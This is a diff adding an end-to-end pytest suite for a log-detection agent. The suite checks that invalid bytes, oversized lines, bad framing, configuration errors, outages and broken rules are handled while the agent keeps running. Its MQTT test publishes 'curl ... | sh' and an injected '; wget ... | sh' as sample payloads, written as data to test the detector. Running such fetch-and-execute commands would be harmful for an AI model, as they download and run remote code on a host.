@@ -1,0 +1,369 @@
+"""Bad input to the real agent and the real landing: each gets a clear answer, and the rest goes on."""
+
+from __future__ import annotations
+
+import json
+import socket
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import paho.mqtt.publish
+import pytest
+from paho.mqtt.client import MQTTv5
+
+from tests.broker import Broker, free_port
+from tests.broker import running as broker_running
+from tests.e2e.agent import Agent, until, vedette
+from tests.e2e.test_landing import AGENT, Landing, session
+from tests.outbox.kit import block, unblock
+from vedette.event import MAX_EVENT
+
+pytestmark = pytest.mark.door
+
+HEAD = b"<38>Nov 20 10:00:00 web1 sshd[7]: "
+ATTACK = HEAD + b"Failed password for root from 203.0.113.9 port 22 ssh2"
+"""What the starter rule of that name finds."""
+TITLE = "SSH Password Attempt on Root"
+
+
+class Everything:
+    """An agent with an input of each type, and what it takes to feed them."""
+
+    def __init__(self, folder: Path, broker: Broker) -> None:
+        self.broker, self.file = broker, folder / "app.log"
+        self.file.touch()
+        self.agent = Agent(folder / "a")
+        self.agent.configure(
+            f'[[input]]\nname = "tcp"\ntype = "syslog"\ntcp = "127.0.0.1:{self.agent.port}"\n'
+            f'udp = "127.0.0.1:{self.agent.port}"\n'
+            f'[[input]]\nname = "file"\ntype = "file"\npaths = ["{self.file}"]\npoll = "50ms"\nformat = "syslog"\n'
+            'logsource = { product = "linux" }\n'
+            f'[[input]]\nname = "mqtt"\ntype = "mqtt"\nurl = "{broker.url}"\ntopics = ["plant/#"]\n'
+        )
+
+    def tcp(self, data: bytes) -> bool:
+        """Send it over a connection of its own; True when the agent closed that before we did."""
+        with socket.create_connection(("127.0.0.1", self.agent.port), 10) as connection:
+            connection.sendall(data)
+            connection.settimeout(0.5)
+            try:
+                return connection.recv(1) == b""
+            except TimeoutError:
+                return False
+            except ConnectionError:
+                return True
+
+    def udp(self, data: bytes) -> None:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
+            sender.sendto(data, ("127.0.0.1", self.agent.port))
+
+    def write(self, data: bytes) -> None:
+        with self.file.open("ab") as file:
+            file.write(data)
+
+    def publish(self, *payloads: bytes, topic: str = "plant/press/1") -> None:
+        messages = [(topic, payload, 1, False) for payload in payloads]
+        paho.mqtt.publish.multiple(messages, hostname="127.0.0.1", port=self.broker.port, protocol=MQTTv5)
+
+    def judged(self, name: str, events: int) -> dict[str, Any]:
+        """The input's counters once ``events`` of it, in all, are judged."""
+        until(f"{events} events of {name}", lambda: self.agent.alive() and self.agent.input(name)["judged"] >= events)
+        status = self.agent.status()
+        assert status["identity_broken"] == []
+        counts: dict[str, Any] = status["inputs"][name]
+        assert counts["judged"] == events
+        return counts
+
+    def last(self, name: str) -> bytes:
+        return self.agent.stored(name)[-1].raw
+
+    def alerts(self, count: int) -> list[dict[str, Any]]:
+        """The newest ``count`` alerts, in order."""
+        shown = vedette("alerts", "-c", self.agent.config, "--json", "-n", count).stdout
+        return [json.loads(line) for line in shown.splitlines()]
+
+
+@pytest.fixture(scope="module")
+def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Everything]:
+    """One agent for all bad events: that it still judges at the end is part of the proof."""
+    folder = tmp_path_factory.mktemp("bad")
+    with broker_running(folder / "broker") as broker:
+        made = Everything(folder, broker)
+        made.agent.up()
+        yield made
+        made.agent.kill()
+
+
+@pytest.fixture
+def here(shared: Everything) -> Iterator[Everything]:
+    """After each test a good event on each input is stored, judged and found."""
+    shared.agent.alive()
+    yield shared
+    before = shared.agent.status()["alerts"]["made"]
+    shared.tcp(ATTACK + b"\n")
+    shared.write(ATTACK + b"\n")
+    until(
+        "alerts for good events", lambda: shared.agent.alive() and shared.agent.status()["alerts"]["made"] >= before + 2
+    )
+    assert shared.agent.status()["identity_broken"] == []
+
+
+def _judged(here: Everything, name: str) -> int:
+    return int(here.agent.input(name)["judged"])
+
+
+@pytest.mark.parametrize("noise", [b"\xff\xfe\x80 caf\xe9 ", b"\x00\x00 nul \x00 "], ids=["invalid UTF-8", "NUL"])
+def test_bytes_that_are_no_text(here: Everything, noise: bytes) -> None:
+    """Invalid UTF-8 and NUL bytes are stored byte for byte and judged, over TCP, UDP and from a file; the alert shows
+    them as text that can be shown."""
+    event = ATTACK.replace(b"port 22", noise + b"port 22")
+    tcp, file = _judged(here, "tcp"), _judged(here, "file")
+    here.tcp(event + b"\n")
+    here.judged("tcp", tcp + 1)
+    assert here.last("tcp") == event
+    here.udp(event)
+    here.judged("tcp", tcp + 2)
+    assert here.last("tcp") == event
+    here.write(event + b"\n")
+    here.judged("file", file + 1)
+    assert here.last("file") == event
+    until(
+        "the alerts",
+        lambda: len(found := here.alerts(3)) == 3 and all(noise.decode("utf-8", "replace") in a["raw"] for a in found),
+    )
+    assert {alert["rule_title"] for alert in here.alerts(3)} == {TITLE}
+
+
+def test_10_mb_without_newline(here: Everything) -> None:
+    """A line of 10 MB is cut at 1 MiB, flagged, counted and told with its peer, over TCP and from a file; the line
+    after it is whole, and the agent's memory does not grow with the line."""
+    long = ATTACK + b" " + b"x" * 10_000_000
+    tcp, file = _judged(here, "tcp"), _judged(here, "file")
+    before = _peak(here.agent)
+    here.tcp(long + b"\n" + ATTACK + b" after\n")
+    counts = here.judged("tcp", tcp + 2)
+    assert counts["cut"] == 1
+    assert [len(event.raw) for event in here.agent.stored("tcp")[-2:]] == [MAX_EVENT, len(ATTACK) + 6]
+    assert here.agent.said("event_cut")[-1].items() >= {"input": "tcp", "peer": "127.0.0.1", "events": 1}.items()
+    here.write(long + b"\n" + ATTACK + b" after\n")
+    assert here.judged("file", file + 2)["cut"] == 1
+    assert here.agent.said("event_cut")[-1].items() >= {"input": "file", "path": str(here.file)}.items()
+    until("the alerts", lambda: len([a for a in here.alerts(4) if a["raw"].endswith(" after")]) == 2)
+    assert [alert["flags"] for alert in here.alerts(4)] == [["cut"], [], ["cut"], []]
+    assert _peak(here.agent) - before < 40e6
+
+
+def _peak(agent: Agent) -> int:
+    """Most memory that the process has had, in bytes."""
+    assert agent.process is not None
+    status = Path(f"/proc/{agent.process.pid}/status").read_text()
+    return int(status.partition("VmHWM:")[2].split()[0]) * 1024
+
+
+def test_malformed_octet_count(here: Everything) -> None:
+    """The messages before a count that is none are stored; then the connection is closed, with a line that says who
+    sent what; other connections go on."""
+    tcp = _judged(here, "tcp")
+    good = b"%d %s" % (len(ATTACK), ATTACK)
+    with socket.create_connection(("127.0.0.1", here.agent.port)) as other:
+        other.sendall(b"<13>Nov 20 10:00:00 web1 app: first half,")
+        assert here.tcp(good + b"12x " + ATTACK)
+        counts = here.judged("tcp", tcp + 1)
+        assert counts["dropped"] == {"framing": 1}
+        told = here.agent.said("framing_error")[-1]
+        assert (told["input"], told["peer"]) == ("tcp", "127.0.0.1")
+        assert "12x" in told["reason"]
+        assert "RFC 6587" in told["reason"]
+        other.sendall(b" second half\n")
+        here.judged("tcp", tcp + 2)
+    assert here.last("tcp") == b"<13>Nov 20 10:00:00 web1 app: first half, second half"
+
+
+def test_mqtt_payload_that_is_not_json(here: Everything) -> None:
+    """A payload that is no JSON, is broken JSON or is empty is stored as it is and judged as text."""
+    payloads = (b'{"temperature": 20, ', b"\xff\xfe\x00", b"", b"curl http://203.0.113.9/x.sh | sh")
+    mqtt = _judged(here, "mqtt")
+    here.publish(*payloads)
+    counts = here.judged("mqtt", mqtt + len(payloads))
+    assert not counts["dropped"]
+    assert sorted(event.raw for event in here.agent.stored("mqtt")[-4:]) == sorted(payloads)
+    here.publish(b'{"cmd": "; wget http://203.0.113.9/x.sh -O- | sh"}', topic="plant/press/2/cmd")
+    here.judged("mqtt", mqtt + len(payloads) + 1)
+    until("the alert of the good one", lambda: any(a["source"] == "mqtt" for a in here.alerts(20)))
+
+
+# --- at start
+
+
+def test_a_key_that_is_unknown(tmp_path: Path) -> None:
+    """Configuration with mistakes: exit code 2, every mistake with file, key and what is known; nothing is written."""
+    agent = Agent(tmp_path / "a")
+    agent.configure(
+        '[[input]]\nname = "in"\ntype = "syslog"\ntpc = "127.0.0.1:0"\n[uplnik]\n[raw_log]\nmax_age = "1w"\n'
+    )
+    for command in ("run", "check"):
+        said = vedette(command, "-c", agent.config, code=2).stderr
+        assert f"{agent.config}: input[0].tpc: unknown key; known: " in said
+        assert " tcp, " in said
+        assert f"{agent.config}: uplnik: unknown key; known: " in said
+        assert f"{agent.config}: raw_log.max_age: expects a duration" in said
+    assert not agent.data.exists()
+
+
+def test_a_port_in_use(tmp_path: Path) -> None:
+    """A port that another program has: exit code 2 and a line with input, address and what to do; once the port is
+    free the same data folder goes on."""
+    agent = Agent(tmp_path / "a")
+    agent.configure(f'[[input]]\nname = "in"\ntype = "syslog"\ntcp = "127.0.0.1:{agent.port}"\n')
+    with socket.create_server(("127.0.0.1", agent.port)):
+        agent.start()
+        assert agent.ended() == 2
+    assert (
+        f"vedette: [Errno 98] input 'in': cannot listen on tcp 127.0.0.1:{agent.port}: Address already in use"
+        " (another program is on this port: stop it, or choose another port)" in agent.text()
+    )
+    agent.up()
+    agent.kill()
+
+
+def test_a_truncated_frame(tmp_path: Path) -> None:
+    """A raw log that ends within a frame: the rest is kept aside, told with file, place and reason, and the agent goes
+    on; what was whole is there and judged."""
+    agent = Agent(tmp_path / "a")
+    agent.configure(f'[[input]]\nname = "in"\ntype = "syslog"\ntcp = "127.0.0.1:{agent.port}"\n')
+    agent.up()
+    with socket.create_connection(("127.0.0.1", agent.port)) as connection:
+        for number in range(5):
+            connection.sendall(ATTACK + b" %d\n" % number)
+            until("the event", lambda number=number: agent.input()["stored"] == number + 1)
+    agent.settled(5)
+    agent.kill()
+    (segment,) = (agent.data / "raw").glob("*.seg*")
+    with segment.open("r+b") as file:
+        file.truncate(segment.stat().st_size - 20)
+    agent.up()
+    (told,) = agent.said("raw_log_cut")
+    assert told["folder"] == str(agent.data / "raw")
+    assert told["cut_bytes"] > 20
+    assert told["reason"]
+    status = agent.status()
+    assert status["raw_log"]["recovery"]["cut_bytes"] == told["cut_bytes"]
+    assert status["identity_broken"] == []
+    kept = list((agent.data / "raw" / "quarantine").iterdir())
+    assert [path.stat().st_size for path in kept] == [told["cut_bytes"]]
+    found = vedette("logs", "search", "-c", agent.config, "Failed password").stdout.splitlines()
+    assert [line[-1] for line in found] == list("0123")
+    with socket.create_connection(("127.0.0.1", agent.port)) as connection:
+        connection.sendall(ATTACK + b" again\n")
+    agent.settled(6)
+    agent.kill()
+    alerts = agent.alerts()
+    assert sorted(alert["raw"][-1] for alert in alerts) == sorted("01234n")
+
+
+# --- brokers and landings
+
+
+def test_a_broker_that_is_away(tmp_path: Path) -> None:
+    """Without a broker at start and later: told once an outage with address and reason; logs are taken and judged, and
+    alerts leave when it is back."""
+    broker = Broker(tmp_path / "broker")
+    agent = Agent(tmp_path / "a")
+    landing = Landing(tmp_path / "landing", broker)
+    agent.configure(AGENT.format(port=agent.port, url=broker.url))
+    try:
+        agent.up()
+        landing.start()
+        for events, away in ((1, 1), (2, 2)):
+            until("the outage to be told", lambda away=away: len(agent.said("broker_away")) == away)
+            assert agent.said("broker_away")[-1]["broker"] == broker.url
+            assert agent.said("broker_away")[-1]["reason"]
+            assert agent.status()["uplink"]["connected"] is False
+            with socket.create_connection(("127.0.0.1", agent.port)) as connection:
+                connection.sendall(ATTACK + b"\n")
+            until("the alert to wait", lambda: agent.status()["alerts"]["in_outbox"] == 1)
+            broker.start()
+            agent.settled(events)
+            assert len(agent.alerts(landing.folder)) == events
+            broker.kill()
+    finally:
+        agent.kill()
+        landing.kill()
+        broker.kill()
+
+
+def test_a_landing_that_cannot_be_written(tmp_path: Path) -> None:
+    """Region: a landing folder that cannot be written is told once with what to do, nothing is acknowledged and the
+    agent keeps its alerts; when it can be written they land, and are receipted."""
+    with broker_running(tmp_path / "broker") as broker:
+        agent, landing = Agent(tmp_path / "a"), Landing(tmp_path / "landing", broker)
+        agent.configure(AGENT.format(port=agent.port, url=broker.url))
+        block(landing.folder)
+        try:
+            landing.start()
+            session(broker)
+            agent.up()
+            with socket.create_connection(("127.0.0.1", agent.port)) as connection:
+                connection.sendall(ATTACK + b"\n")
+            until("the failure to be told", lambda: landing.alive() and "landing_failed" in landing.text())
+            time.sleep(1.5)
+            assert landing.text().count("landing_failed") == 1
+            assert str(landing.folder) in landing.text()
+            assert "make the folder writable" in landing.text()
+            assert agent.status()["alerts"]["in_outbox"] == 1
+            unblock(landing.folder)
+            agent.settled(1)
+            assert len(agent.alerts(landing.folder)) == 1
+        finally:
+            agent.kill()
+            landing.kill()
+
+
+def test_a_directory_uplink_that_cannot_be_written(tmp_path: Path) -> None:
+    """The same for alerts that land on the agent's own host: logs are taken and judged on, alerts wait."""
+    agent = Agent(tmp_path / "a")
+    agent.configure(f'[[input]]\nname = "in"\ntype = "syslog"\ntcp = "127.0.0.1:{agent.port}"\n')
+    block(agent.landing)
+    try:
+        agent.up()
+        for number in range(3):
+            with socket.create_connection(("127.0.0.1", agent.port)) as connection:
+                connection.sendall(ATTACK + b"\n")
+            until("the alert to wait", lambda number=number: agent.status()["alerts"]["in_outbox"] == number + 1)
+        (told,) = agent.said("uplink_failed")
+        assert told["folder"] == str(agent.landing)
+        assert "make the folder writable" in told["action"]
+        unblock(agent.landing)
+        agent.settled(3)
+    finally:
+        agent.kill()
+    assert len(agent.alerts()) == 3
+
+
+def test_a_broken_rule_at_start(tmp_path: Path) -> None:
+    """A rule that cannot run is told with file, line and reason, by the agent and by ``check``; the others run."""
+    rules = tmp_path / "rules"
+    rules.mkdir()
+    (rules / "bad.yml").write_text("title: Bad\nlogsource:\n    product: linux\ndetection:\n    condition: nothing\n")
+    (rules / "good.yml").write_text(
+        "title: Good\nid: 6a1f0000-0000-4000-8000-000000000001\nlogsource:\n    product: linux\n"
+        "detection:\n    keywords:\n        - 'Failed password'\n    condition: keywords\n"
+    )
+    agent = Agent(tmp_path / "a", rules=rules, port=free_port())
+    agent.configure(f'[[input]]\nname = "in"\ntype = "syslog"\ntcp = "127.0.0.1:{agent.port}"\n')
+    said = vedette("check", "-c", agent.config, code=1)
+    assert f"{rules}/bad.yml:" in said.stderr
+    assert "1 run" in said.stdout
+    agent.up()
+    try:
+        assert agent.said("rule_unsupported")[0]["file"].startswith(f"{rules}/bad.yml:")
+        (dead,) = agent.status()["rules"]["dead"]
+        assert dead.startswith(f"{rules}/bad.yml:")
+        with socket.create_connection(("127.0.0.1", agent.port)) as connection:
+            connection.sendall(ATTACK + b"\n")
+        agent.settled(1)
+    finally:
+        agent.kill()
+    assert [alert["rule_title"] for alert in agent.alerts()] == ["Good"]
